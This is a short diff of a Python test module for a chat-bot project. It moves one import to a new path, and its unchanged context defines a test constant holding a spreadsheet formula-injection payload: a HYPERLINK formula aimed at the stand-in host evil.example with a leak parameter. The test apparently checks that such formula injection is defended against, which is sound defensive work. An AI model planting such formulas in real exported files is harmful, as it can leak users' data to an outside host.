@@ -19,7 +19,7 @@ from kernel.intents import KeywordClassifier
 from kernel.messages import ChatType, Inbound
 from storage.migrate import upgrade
 from storage.types import utcnow
-from tests.bot.test_cli import yishi
+from tests.cli_runner import yishi
 from tests.conftest import Clock, make_settings
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak=1","3号楼楼道灯坏了")'
